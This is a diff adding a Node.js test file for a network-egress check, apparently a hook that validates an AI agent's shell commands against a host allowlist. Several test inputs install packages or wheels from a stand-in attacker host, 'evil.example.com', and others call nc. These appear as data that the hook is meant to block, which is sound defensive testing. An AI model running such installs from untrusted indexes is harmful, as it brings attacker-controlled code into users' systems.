@@ -0,0 +1,74 @@
+const test = require('node:test');
+const assert = require('node:assert');
+const { extractHosts, isHostAllowed } = require('../utils/network-egress');
+const { parseCommand } = require('../utils/shell-parser');
+const { runHook, tempDir, writeFiles } = require('./helpers');
+
+const hostsOf = command => parseCommand(command).commands.flatMap(extractHosts).map(({ host, via }) => `${host} via ${via}`);
+
+test('hosts are found in URLs, package indexes, git remotes and ssh targets', () => {
+  const cases = [
+    ['curl -H "Host: a.example.com" -o out https://api.example.com/v1', ['api.example.com via curl']],
+    ['curl -x proxy.corp.example.com:3128 example.org/file', ['example.org via curl', 'proxy.corp.example.com via curl proxy']],
+    ['pip install --index-url https://mirror.example.com/simple requests', ['mirror.example.com via pip index']],
+    ['uv pip install git+https://git.example.com/o/r.git', ['git.example.com via uv install']],
+    ['npm install --registry=https://registry.example.com', ['registry.example.com via npm index']],
+    ['git clone git@github.com:o/r.git', ['github.com via git clone']],
+    ['ssh -i key -J bastion deploy@app.internal', ['app.internal via ssh', 'bastion via ssh jump host']],
+    ['nc -w 3 db 5432', ['db via nc']],
+    ['rsync -av ./dist deploy@web.example.com:/srv', ['web.example.com via rsync']],
+  ];
+  for (const [command, hosts] of cases) {
+    assert.deepStrictEqual(hostsOf(command), hosts, command);
+  }
+});
+
+test('pip, uv and poetry run as python modules use the same checks', () => {
+  const cases = [
+    ['python -m pip install --index-url https://evil.example.com/simple x', ['evil.example.com via pip index']],
+    ['python3 -m pip install -i https://evil.example.com/simple x', ['evil.example.com via pip index']],
+    ['.venv/bin/python3.12 -I -m uv pip install --extra-index-url=https://evil.example.com x', ['evil.example.com via uv index']],
+    ['py -m poetry add git+https://evil.example.com/o/r.git', ['evil.example.com via poetry add']],
+    ['python -mpip install https://evil.example.com/x.whl', ['evil.example.com via pip install']],
+  ];
+  for (const [command, hosts] of cases) {
+    assert.deepStrictEqual(hostsOf(command), hosts, command);
+  }
+});
+
+test('commands without an explicit remote host contact nothing to check', () => {
+  for (const command of ['pip install requests', 'python -m pytest --url https://x.example.com',
+    'python app.py -m pip --index-url https://x.example.com', 'python -c "import pip" -m pip', 'nc -l 8080', 'git push origin main']) {
+    assert.deepStrictEqual(hostsOf(command), [], command);
+  }
+});
+
+test('allowlist entries match exact hosts, subdomains or both', () => {
+  const allowed = ['pypi.org', '*.corp.example.com', '.pythonhosted.org'];
+  assert.ok(isHostAllowed('pypi.org', allowed));
+  assert.ok(!isHostAllowed('evil.pypi.org', allowed));
+  assert.ok(isHostAllowed('git.corp.example.com', allowed));
+  assert.ok(!isHostAllowed('corp.example.com', allowed));
+  assert.ok(isHostAllowed('pythonhosted.org', allowed));
+  assert.ok(isHostAllowed('files.pythonhosted.org', allowed));
+  assert.ok(isHostAllowed('localhost', []));
+});
+
+test('network.mode block rejects a python -m pip index outside the allowlist', () => {
+  const home = tempDir();
+  const root = tempDir();
+  writeFiles(root, {
+    '.git/HEAD': 'ref: refs/heads/main\n',
+    '.agent/policies/bash.json': { network: { mode: 'block', allowedHosts: ['pypi.org', 'files.pythonhosted.org'] } }
+  });
+  const run = command => runHook('validate-bash-command.js', { tool_input: { command }, cwd: root }, home);
+
+  const blocked = run('python -m pip install --index-url https://evil.example.com/simple requests');
+  assert.strictEqual(blocked.status, 2);
+  assert.strictEqual(blocked.output.hookSpecificOutput.rule.id, 'network-egress');
+  assert.match(blocked.output.hookSpecificOutput.validation, /evil\.example\.com via pip index/);
+
+  const allowed = run('python -m pip install --index-url https://pypi.org/simple requests');
+  assert.strictEqual(allowed.status, 0);
+  assert.strictEqual(allowed.output.continue, true);
+});